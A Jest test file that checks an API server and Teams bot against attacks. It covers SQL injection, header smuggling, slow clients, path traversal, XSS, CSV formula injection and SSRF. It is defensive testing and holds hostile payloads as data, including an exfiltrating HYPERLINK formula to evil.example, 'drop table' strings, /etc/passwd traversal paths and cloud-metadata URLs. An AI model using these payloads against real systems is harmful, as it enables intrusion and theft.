import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { sql } from 'kysely';
import type { z } from 'zod';
import { ofTeams, onLoopback } from '../../bot/service.ts';
import { csvOf } from '../../demo/export.ts';
import { clouds } from '../../src/graph/clouds.ts';
import { type Operation, operations } from '../../src/server/contract.ts';
import { accessTable } from '../support/accessTable.ts';
import { startConnector } from '../support/connector.ts';
import { newAccount, upToDate, write } from '../support/database.ts';
import { type Api, giveAccess, startApi } from './apiHouse.ts';
import { places, startBot } from './bot.support.ts';

const script = '<script>alert(1)</script>';
const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';

let api: Api;
let tab: string;
beforeAll(async () => {
  tab = await mkdtemp(join(tmpdir(), 'tab-'));
  await writeFile(join(tab, 'index.html'), '<!doctype html><head></head><body>the tab</body>');
  await symlink('/etc/passwd', join(tab, 'way-out.txt'));
  api = await startApi({ tabFolder: tab, patience: { headersMs: 150, requestMs: 300, lookMs: 50 } });
  await newAccount(api.db, 'mine', { name: 'Mine' });
  await newAccount(api.db, 'theirs', { name: 'Theirs Ltd' });
  await giveAccess(api.db, 'mine', 1, 'manager');
  for (const account of ['mine', 'theirs']) {
    await write(api.db, account, 'organization', [{ id: 'o', name: account === 'mine' ? script : 'Secret subsidiary', country: 'DE' }]);
    await write(api.db, account, 'opportunity', [
      { id: 'd', name: account === 'mine' ? formula : 'Secret deal', organization: 'o', type: 'netNew', status: 'open' },
    ]);
    await upToDate(api.db, account);
  }
});
afterAll(async () => {
  await api.close();
  await rm(tab, { recursive: true });
});

/** Writes bytes to the server, whatever they are. @returns what comes back until it closes the connection */
function raw(bytes: string): Promise<string> {
  const { hostname, port } = new URL(api.url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname === 'localhost' ? '127.0.0.1' : hostname);
    let said = '';
    socket.setEncoding('latin1');
    socket.on('data', (chunk) => {
      said += chunk;
    });
    socket.on('close', () => resolve(said));
    socket.on('error', (error: NodeJS.ErrnoException) =>
      error.code === 'ECONNRESET' || error.code === 'EPIPE' ? resolve(said) : reject(error),
    );
    socket.write(bytes);
  });
}
const isUp = async () => expect((await api.call('/healthz')).status).toBe(200);

describe('injection of SQL', () => {
  const payloads = [
    "' or '1'='1",
    "'; drop table workspace; --",
    "theirs' union select * from access --",
    "\\'; select 1",
    '1) or (1=1',
    '%27%20or%201=1',
    '${process.env}',
    '\u2019 or 1=1',
  ];
  const shapeOf = (schema: z.ZodType | undefined): string[] => Object.keys((schema as { shape?: object } | undefined)?.shape ?? {});

  it.each(
    Object.entries(operations as Record<string, Operation>).filter(([, { path, method }]) => path.includes(':account') && method === 'get'),
  )('into any part of an address brings nothing of another account, and breaks nothing: %s', async (name, operation) => {
    const { path = {}, query = {} } = accessTable[name] ?? {};
    const address = (parts: Readonly<Record<string, string>>, asked: Readonly<Record<string, string>>) =>
      `${operation.path.replace(/:(\w+)/g, (_, part: string) => encodeURIComponent(parts[part] ?? 'mine'))}?${new URLSearchParams(asked)}`;
    const parts = [...operation.path.matchAll(/:(\w+)/g)].map(([, part]) => part ?? '');
    for (const payload of payloads) {
      const asked = [
        ...parts.map((part) => address({ account: 'mine', ...path, [part]: payload }, query)),
        ...shapeOf(operation.query).map((key) => address({ account: 'mine', ...path }, { ...query, [key]: payload })),
      ];
      for (const one of asked) {
        const { status, text } = await api.call(one, { as: 1 });
        expect([one, status < 500 || status === 503, /Theirs|Secret/.test(text)]).toEqual([one, true, false]);
      }
    }
  });

  it('by a field’s name or a sort order is no SQL either', async () => {
    for (const query of ["id' or 1=1 --=x", 'sort=id; drop table note', 'sort=-name)--', '"name"=x', "q=%' or 1=1 --", 'q=%25_%5C']) {
      const { status, text } = await api.call(`/api/accounts/mine/records/organization?${query}`, { as: 1 });
      expect([query, [200, 400].includes(status), /Secret/.test(text)]).toEqual([query, true, false]);
    }
    const tables = await api.db.asOwner((tx) => sql<{ rows: number }>`select count(*) as rows from workspace`.execute(tx));
    expect(tables.rows[0]?.rows).toBe(2);
  });

  it('by an account’s name opens no other scope', async () => {
    for (const account of ['*', 'mine,theirs', 'mine%2Ctheirs', '%2A', 'theirs', 'MINE', '../theirs', '..%2Ftheirs']) {
      const { status, text } = await api.call(`/api/accounts/${account}/scorecard`, { as: 1 });
      expect([account, status, /Theirs/.test(text)]).toEqual([account, 404, false]);
    }
  });
});

describe('headers', () => {
  const get = (path: string, headers: string) => raw(`GET ${path} HTTP/1.1\r\n${headers}connection: close\r\n\r\n`);

  it('that name another host are refused in local mode: a page of the web cannot become of one origin with us', async () => {
    for (const host of ['evil.example', 'evil.example:3978', 'localhost.evil.example', '127.0.0.1.nip.io', '169.254.169.254', '']) {
      for (const path of ['/', '/api/me', '/api/openapi.json', '/api/messages']) {
        expect([host, path, (await get(path, `host: ${host}\r\n`)).slice(0, 12)]).toEqual([
          host,
          path,
          expect.stringMatching(/^HTTP\/1\.1 4(21|00)/),
        ]);
      }
    }
    for (const host of ['localhost', 'localhost:1234', '127.0.0.1', '[::1]:3978'])
      expect(await get('/healthz', `host: ${host}\r\n`)).toMatch(/^HTTP\/1\.1 200/);
  });

  it('that speak for a proxy, another method or another address change nothing', async () => {
    const host = 'host: localhost\r\n';
    for (const header of [
      'x-original-url: /healthz',
      'x-rewrite-url: /healthz',
      'x-forwarded-user: admin',
      'x-ms-client-principal-id: 1',
      'x-http-method-override: DELETE',
      'x-forwarded-host: evil.example',
    ])
      expect([header, (await get('/api/me', `${host}${header}\r\n`)).slice(0, 12)]).toEqual([header, 'HTTP/1.1 401']);
    expect(await get('/', `${host}x-forwarded-host: evil.example\r\n`)).not.toContain('evil.example');
  });

  it('that are malformed, smuggled or without end are refused, and the server goes on', async () => {
    const begins = 'POST /api/messages HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n';
    expect(await raw(`${begins}content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /api/me HTTP/1.1\r\n\r\n`)).toMatch(
      /^HTTP\/1\.1 400/,
    );
    expect(await raw(`${begins}content-length: 5\r\ncontent-length: 6\r\n\r\n{}`)).toMatch(/^HTTP\/1\.1 400/);
    expect(await raw(`GET /healthz HTTP/1.1\r\nhost: localhost\r\nx: ${'a'.repeat(70_000)}\r\n\r\n`)).toMatch(/^HTTP\/1\.1 431/);
    expect(await raw('GET /healthz HTTP/1.1\r\nhost: localhost\r\nx: a\rb: c\r\n\r\n')).toMatch(/^HTTP\/1\.1 400/);
    await isUp();
  });
});

describe('clients that send too much or too slowly', () => {
  it('are let go of: half a header, half a body, a byte now and then', async () => {
    const begins = 'PUT /api/accounts/mine/settings HTTP/1.1\r\nhost: localhost\r\n';
    const answers = await Promise.all([
      raw('GET /api/me HTTP/1.1\r\nhost: local'),
      raw(`${begins}content-type: application/json\r\ncontent-length: 100\r\n\r\n{"a`),
      ...Array.from({ length: 50 }, () => raw('GET /')),
    ]);
    expect(answers.slice(0, 2).map((said) => said.slice(0, 12))).toEqual(['HTTP/1.1 408', expect.stringMatching(/^HTTP\/1\.1 4(08|01)/)]);
    await isUp();
  }, 15_000);

  it('are answered before a huge body has come', async () => {
    const token = await api.issuer.token('00000000-0000-4000-8000-000000000001');
    const begins = (path: string) =>
      `PUT ${path} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\n`;
    expect(await raw(`${begins('/api/accounts/mine/settings')}content-length: 99999999999\r\n\r\n{`)).toMatch(/^HTTP\/1\.1 413/);
  });

  it('may nest as deeply as they like', async () => {
    const deep = `{"policies":${'{"a":'.repeat(60_000)}1${'}'.repeat(60_000)}}`;
    expect((await api.call('/api/accounts/mine/settings', { as: 1, method: 'PUT', body: deep })).status).toBe(400);
    const list = `{"changes":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    expect((await api.call('/api/accounts/mine/what-if', { as: 1, method: 'POST', body: list })).status).toBe(400);
    const polluted = '{"__proto__":{"figuresAboutPeople":"named"},"constructor":{"prototype":{"polluted":true}}}';
    expect((await api.call('/api/accounts/mine/settings', { as: 1, method: 'PUT', body: polluted })).status).toBeLessThan(500);
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
    await isUp();
  });
});

describe('ways out of the tab’s folder', () => {
  it.each([
    '/../../../../etc/passwd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/..%2f..%2fetc%2fpasswd',
    '/..\\..\\etc\\passwd',
    '/%5c..%5c..%5cetc%5cpasswd',
    '//etc/passwd',
    '/assets/../../package.json',
    '/way-out.txt',
    '/%00/etc/passwd.txt',
    '/.git/config',
    'http://evil.example/etc/passwd',
  ])('are none: %s', async (path) => {
    const said = await raw(`GET ${path} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n`);
    expect(said).not.toMatch(/root:|"dependencies"|\[core\]/);
    expect(said).toMatch(/^HTTP\/1\.1 (200|400|404)/);
  });
});

describe('scripts and formulas in what a list holds', () => {
  it('leave the API as data, which no browser takes for a page', async () => {
    const { headers, text } = await api.call('/api/accounts/mine/records/organization', { as: 1 });
    expect(headers.get('content-type')).toContain('application/json');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(JSON.parse(text).records[0].fields.name).toBe(script);
    const { headers: page } = await api.call('/');
    expect(page.get('content-security-policy')).toMatch(/script-src 'self'(?![^;]*unsafe-inline)/);
  });

  it('are no formula in a file that a workbook opens', () => {
    const nasty = [formula, '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'plain', '-12.5 %'];
    const list = { displayName: 'x', columns: [{ displayName: '=cmd', type: 'text' }], rows: nasty.map((cell) => ({ '=cmd': cell })) };
    const cells = csvOf(list as never)
      .split('\n')
      .map((line) => line.replace(/^"/, ''));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]./);
    expect(csvOf({ ...list, rows: [{ '=cmd': -5 }] } as never)).toContain('\n-5\n');
  });
});

describe('addresses that the server is asked to go to', () => {
  const hosts = [
    'http://169.254.169.254/latest/meta-data/',
    'https://smba.trafficmanager.net.evil.example/',
    'https://evil.example/?smba.trafficmanager.net',
    'https://smba.trafficmanager.net@evil.example/',
    'https://evil.example#smba.trafficmanager.net',
    'https://smba.trafficmanager.net:8443/',
    'http://smba.trafficmanager.net/teams/',
    'file:///etc/passwd',
    'gopher://localhost:70/',
    'http://[::ffff:169.254.169.254]/',
    'http://0.0.0.0:3978/',
    'http://10.0.0.1/',
    'http://2130706433.evil.example/',
    'http://localhost.evil.example/',
    '//evil.example/',
    'not an address',
    '',
  ];
  it('by an activity’s service address are those of Teams, in local mode those of this machine', async () => {
    expect(hosts.filter(ofTeams(clouds.global))).toEqual([]);
    expect(hosts.filter(onLoopback)).toEqual([]);
    const elsewhere = await startConnector();
    const bot = await startBot();
    try {
      for (const serviceUrl of hosts) {
        const said = await bot.post({ ...bot.activity(1, places.personal(1), { type: 'message', text: 'scorecard' }), serviceUrl });
        expect([serviceUrl, [400, 403].includes(said.status)]).toEqual([serviceUrl, true]);
      }
      expect(bot.connector.timesAsked() + bot.connector.messages().length + elsewhere.timesAsked()).toBe(0);
      // The same activity once more, as whoever has recorded it sends it: it is not answered twice.
      const activity = bot.activity(1, places.personal(1), { type: 'message', text: 'help' });
      await bot.post(activity);
      await bot.post(activity);
      expect(bot.connector.messages()).toHaveLength(1);
    } finally {
      await bot.close();
      await elsewhere.close();
    }
  });

  it('by a validation of the webhook are none: its token is said back as text, and nothing else', async () => {
    const following = await startApi({ following: { receive: () => undefined, isFollowable: () => true } as never });
    try {
      const token = `${script} http://169.254.169.254/`;
      const answer = await following.call(`/api/graph/notifications?validationToken=${encodeURIComponent(token)}`, { method: 'POST' });
      expect([answer.status, answer.headers.get('content-type'), answer.text.includes('<')]).toEqual([
        200,
        'text/plain; charset=utf-8',
        false,
      ]);
      for (const odd of ['a%0d%0aset-cookie:x', 'a%00', 'a'.repeat(2000), 'a&validationToken=b'])
        expect((await following.call(`/api/graph/notifications?validationToken=${odd}`, { method: 'POST' })).status).toBe(400);
    } finally {
      await following.close();
    }
  });
});
